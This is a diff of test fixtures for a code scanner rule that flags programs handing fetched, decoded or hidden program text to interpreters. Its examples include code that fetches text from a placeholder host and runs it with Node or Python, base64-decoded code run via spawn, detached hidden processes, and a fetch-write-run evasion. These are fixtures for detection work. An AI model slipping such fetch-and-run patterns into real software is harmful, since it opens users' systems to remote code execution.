@@ -1,74 +1,99 @@
 import type { Examples } from "@doorward/core";
 
-/** Programs that start other programs from hidden or fetched text, and honest ones. */
+/** Interpreters that are handed program text, and interpreters that are handed files. */
 export const examples: Examples = {
   hits: [
     {
-      name: "a fetched program that is given to a new node",
+      name: "an answer that another Node.js runs",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js":
-          'const { spawn } = require("child_process");\n\nfetch("https://cdn.example/agent.js").then((answer) => answer.text()).then((text) => spawn("node", ["-e", text]));\n',
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `const { spawn } = require("child_process");
+fetch("https://api.example/check").then((answer) => answer.text()).then((text) => spawn("node", ["-e", text], { stdio: "inherit" }));
+`,
       },
     },
     {
-      name: "a decoded program that is given to Python",
+      name: "an answer on the input of Python",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js":
-          'require("child_process").spawn("python3", ["-c", Buffer.from("cHJpbnQoMSArIDEpICAjIGEgbG9uZ2VyIHRleHQ=", "base64").toString()]);\n',
+        "main.py": `import requests, subprocess, sys
+subprocess.run([sys.executable, "-"], input=requests.get("https://api.example/check").content)
+`,
       },
     },
     {
-      name: "a plain program in a detached process that shows nothing",
+      name: "a decoded program that is started by itself",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js":
-          'require("child_process").spawn("node", ["-e", "setInterval(() => {}, 1000)"], { detached: true, stdio: "ignore" }).unref();\n',
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `const { spawn } = require("child_process");
+spawn(process.execPath, ["-e", Buffer.from("Y29uc29sZS5sb2coImluZXJ0LCBidXQgaGlkZGVuIGZyb20gdGhlIGV5ZSIp", "base64").toString()]);
+`,
+      },
+    },
+    {
+      name: "a plain program that is kept out of sight",
+      files: {
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `const { spawn } = require("child_process");
+const code = "setInterval(() => console.log(1), 5000)";
+spawn("node", ["-e", code], { detached: true, stdio: "ignore", windowsHide: true }).unref();
+`,
       },
     },
   ],
   misses: [
     {
-      name: "a plain program that prints a version",
-      why: "It can be read and its output is used.",
+      name: "a line of code that prints a version",
+      why: "The line can be read, and its output is used.",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js": 'console.log(require("child_process").execFileSync("node", ["-p", "process.version"]).toString());\n',
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `const { execFileSync } = require("child_process");
+console.log(execFileSync("node", ["-p", "process.version"]).toString());
+`,
       },
     },
     {
-      name: "a detached program of the project",
-      why: "It is a file that can be read.",
+      name: "a helper that reports usage later",
+      why: "It is a file of the program, which can be read.",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js": 'require("child_process").spawn("node", ["server.js"], { detached: true, stdio: "ignore" }).unref();\n',
-        "server.js": 'console.log("ready");\n',
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `const { spawn } = require("child_process");
+spawn(process.execPath, ["report.js"], { detached: true, stdio: "ignore" }).unref();
+`,
+        "report.js": `console.log(1);
+`,
       },
     },
     {
-      name: "a script line of the manifest",
-      why: "It can be read where it stands.",
+      name: "an answer as the input of a formatter",
+      why: "The formatter reads it as data.",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "version-check": "node -e \\"console.log(process.version)\\""\n  }\n}\n',
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `const { execFileSync } = require("child_process");
+fetch("https://api.example/check").then((answer) => answer.text()).then((text) => execFileSync("jq", ["."], { input: text }));
+`,
       },
     },
   ],
   evasions: [
     {
-      name: "the program is written to a file first",
-      caughtBy: "nothing",
+      name: "a program that is saved first",
+      caughtBy: "code/fetched-code-runs",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js": 'require("child_process").spawn("node", ["next.js"]);\n',
-        "next.js": 'console.log("ready");\n',
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `const fs = require("fs");
+const { spawn } = require("child_process");
+fetch("https://api.example/check").then((answer) => answer.text()).then((text) => {
+  fs.writeFileSync("/tmp/report-cache.js", text);
+  spawn("node", ["/tmp/report-cache.js"]);
+});
+`,
       },
     },
   ],
